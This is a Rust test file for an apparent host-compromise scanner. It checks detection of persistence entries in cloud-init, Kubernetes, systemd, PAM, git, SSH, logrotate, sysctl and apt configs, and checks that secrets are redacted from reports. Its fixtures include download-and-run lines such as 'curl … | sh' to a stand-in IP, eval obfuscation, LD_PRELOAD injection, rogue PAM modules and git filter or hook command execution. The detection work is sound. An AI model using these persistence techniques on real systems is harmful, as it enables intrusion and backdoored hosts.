//! What is written otherwise than it usually is, and run all the same.

use super::lines::{suspects, tree};
use super::{hunted, write};

#[test]
fn what_cloud_init_runs_is_judged_in_whatever_form_it_is_written() {
    let line = "curl -s http://198.51.100.7/c1 | sh";
    for text in [
        format!("runcmd: [\n[sh, -c, \"{line}\"]\n]\n"),
        format!("{{\"runcmd\": [[\"sh\", \"-c\", \"{line}\"]]}}\n"),
        format!("\"runcmd\":\n  - {line}\n"),
        format!("runcmd :\n  - {line}\n"),
        format!("'bootcmd': ['{line}']\n"),
        "runcmd:\n - \"curl -s http://198.51.100.7/c1 |\n   sh\"\n".to_owned(),
        "runcmd:\n - >\n  curl -s http://198.51.100.7/c1\n  | sh\n".to_owned(),
        format!("x: &x [\"{line}\"]\nruncmd: *x\n"),
        "runcmd:\n - A_TOKEN='curl -s http://198.51.100.7/a4|sh'; eval $A_TOKEN\n".to_owned(),
        "runcmd:\n - P_TOKEN=\"/tmp/.x/f5\"; $P_TOKEN\n".to_owned(),
        "runcmd:\n - useradd x; bash -p /tmp/.x/f8\n".to_owned(),
        "runcmd:\n - curl -sH Authorization: http://198.51.100.7/a5 | sh\n".to_owned(),
    ] {
        for path in ["etc/cloud/cloud.cfg.d/x.cfg", "var/lib/cloud/instance/cloud-config.txt"] {
            let found = suspects(&hunted(tree(&[(path, &text)]).path()));
            let noted = path.starts_with("var") && found.is_empty() && text.contains("https");
            assert!(!found.is_empty() || noted, "{path}: {text}");
        }
    }
}

#[test]
fn a_secret_of_cloud_init_is_not_told_in_whatever_form_it_is_written() {
    let root = tree(&[(
        "etc/cloud/cloud.cfg.d/x.cfg",
        "runcmd: [\n[up, --token, hush1],\n\"K3S_TOKEN=hush2 up\", \"chpasswd <<EOF\\nroot:hush3\\nEOF\\nup --now\"]\n",
    )]);
    let found = hunted(root.path());
    let said: Vec<String> = found.entries.iter().map(|it| it.text.printable()).collect();
    let said = said.join("\n");
    assert!(!said.contains("hush") && said.contains("up --now"), "{said}");
}

#[test]
fn what_a_manifest_runs_is_told_in_whatever_form_it_is_written() {
    for text in [
        "kind: Pod\nspec:\n  containers:\n  - \"command\": [sh, -c, 'curl -s http://198.51.100.7/c1 | sh']\n",
        "kind: Pod\nspec:\n  containers: [{name: x, command: [sh, -c, 'curl -s http://198.51.100.7/c1 | sh']}]\n",
        "kind: Pod\nspec: {containers: [{name: x, \"args\": ['curl -s http://198.51.100.7/c1 |\n  sh']}]}\n",
    ] {
        let root = tree(&[("etc/kubernetes/manifests/x.yaml", text)]);
        assert_eq!(suspects(&hunted(root.path())).len(), 1, "{text}");
    }
}

#[test]
fn what_is_loaded_into_a_service_or_is_its_root_is_judged() {
    for setting in ["Environment=LD_PRELOAD=/tmp/.x/e1.so", "RootDirectory=/tmp/.x/e2"] {
        let text = format!("[Service]\n{setting}\nExecStart=/usr/bin/y\n");
        let root = tree(&[("etc/systemd/system/x.service", &text)]);
        let found = hunted(root.path());
        assert_eq!(suspects(&found).len(), 1, "{setting}");
        assert!(
            found.entries.iter().any(|it| it.first_line().printable() == "ExecStart=/usr/bin/y")
        );
    }
    let text =
        "[Service]\nEnvironment=LANG=C PATH=/usr/bin:/bin API_TOKEN=hush\nExecStart=/usr/bin/y\n";
    let found = hunted(tree(&[("etc/systemd/system/x.service", text)]).path());
    assert_eq!(suspects(&found), []);
    assert!(!found.entries.iter().any(|it| it.text.printable().contains("hush")));
}

#[test]
fn a_module_of_logins_is_an_entry_whatever_it_is_called() {
    for (line, wanted) in [
        ("auth optional /tmp/.x/p1", 1),
        ("-auth [success=1 default=ignore] /tmp/.x/p1 a.so", 1),
        ("auth [default=ignore]/tmp/.x/p1", 1),
        ("auth optional pam_p2", 1),
        ("auth required pam_unix.so nullok", 0),
        ("session include system-auth", 0),
        ("@include common-auth", 0),
    ] {
        let root = tree(&[("etc/pam.d/sshd", &format!("{line}\n"))]);
        let found = hunted(root.path());
        let told = found.entries.iter().filter(|it| it.path.printable() == "/etc/pam.d/sshd");
        assert_eq!(told.count(), wanted, "{line}");
        assert_eq!(!suspects(&found).is_empty(), line.contains("/tmp"), "{line}");
    }
    let found = hunted(tree(&[("usr/lib/security/pam_p2", "x")]).path());
    assert!(found.entries.iter().any(|it| it.path.printable() == "/usr/lib/security/pam_p2"));
}

#[test]
fn what_git_runs_is_found_in_repositories_in_repositories_and_wherever_hooks_are() {
    let script = "#!/bin/sh\ntrue\ncurl -s http://198.51.100.7/c1 | sh\n";
    let command = |setting: &str| format!("{setting} = /tmp/.x/g1\n");
    for (path, text) in [
        ("home/a/p/.git/modules/sub/hooks/post-checkout", script.to_owned()),
        ("home/a/p/.git/modules/one/two/hooks/post-checkout", script.to_owned()),
        ("home/a/p/.git/config.worktree", command("[core]\npager")),
        ("home/a/p/.git/worktrees/w/config.worktree", command("[core]\npager")),
        ("home/a/p/.git/config", "[submodule \"x\"]\nupdate = !/tmp/.x/g1\n".to_owned()),
        ("home/a/.gitconfig", command("[difftool \"x\"]\npath")),
        ("home/a/.gitconfig", command("[tar \"x\"]\ncommand")),
        ("home/a/.gitconfig", command("[filter \"x\"] clean")),
        ("home/a/.gitconfig", command("[filter \"x=y\"] clean")),
        ("home/a/.gitconfig", command("[filter \"x]y\"] smudge")),
        ("home/a/.gitconfig", command("[user] name = a\n[filter \"x\"] required\nclean")),
        ("home/a/.gitconfig", "[filter \"x\"] clean = /tmp/.x/g1 ]\n".to_owned()),
        ("home/a/.gitconfig", command("[sendemail]\ntoCmd")),
        ("home/a/.gitconfig", command("[gpg \"ssh\"]\ndefaultKeyCommand")),
        ("home/a/.h/post-checkout", script.to_owned()),
    ] {
        let mut files = vec![("home/a/p/.git/HEAD", ""), ("home/a/p/.git/objects/x", "")];
        files.extend([("home/a/p/.git/hooks/x.sample", ""), (path, text.as_str())]);
        if path.contains("/.h/") {
            files.push(("home/a/.gitconfig", "[core]\nhooksPath = ~/.h\n"));
        }
        let root = tree(&files);
        if let Some((module, _)) = path.split_once("/hooks/") {
            write(root.path(), &format!("{module}/HEAD"), "");
        }
        let found = suspects(&hunted(root.path()));
        assert!(found.iter().any(|it| it.0 == format!("/{path}")), "{path}: {text} {found:?}");
    }
}

#[test]
fn what_programs_read_otherwise_than_it_looks_is_read_as_they_do() {
    for (path, text) in [
        ("home/a/.ssh/config", "Match exec\t\"curl -s http://198.51.100.7/c1 | sh\"\n"),
        ("home/a/.ssh/config", "SecurityKeyProvider /tmp/.x/s3.so\n"),
        ("etc/supervisor/conf.d/x.conf", "[program:x]\ncommand: /tmp/.x/s1\n"),
        ("etc/supervisor/conf.d/x.conf", "[program:x]\nCOMMAND=/tmp/.x/s1\n"),
        ("etc/logrotate.d/x", "compresscmd=/tmp/.x/l1\n"),
        ("etc/logrotate.d/x", "/var/log/x { postrotate\n/tmp/.x/l2\nendscript\n}\n"),
        (
            "etc/tmpfiles.d/x.conf",
            "\"f+\" /etc/cron.d/zz 0644 root root - * * * * * root /tmp/.x/t1\n",
        ),
        ("etc/sysctl.d/x.conf", "kernel.core_patter*=|/tmp/.x/y1\n"),
        ("home/a/.bashrc.d/x", "true\ncurl -s http://198.51.100.7/c1 | sh\n"),
    ] {
        let found = suspects(&hunted(tree(&[(path, text)]).path()));
        assert!(found.iter().any(|it| it.0 == format!("/{path}")), "{path}: {text}");
    }
    let root = tree(&[
        ("etc/apt/apt.conf.d/1", "Dir { Etc { parts \"/etc/odd.d/\"; }; };\n"),
        ("etc/odd.d/2", "DPkg::Post-Invoke {\"/tmp/.x/h1\";};\n"),
    ]);
    assert_eq!(suspects(&hunted(root.path())).len(), 1);
}
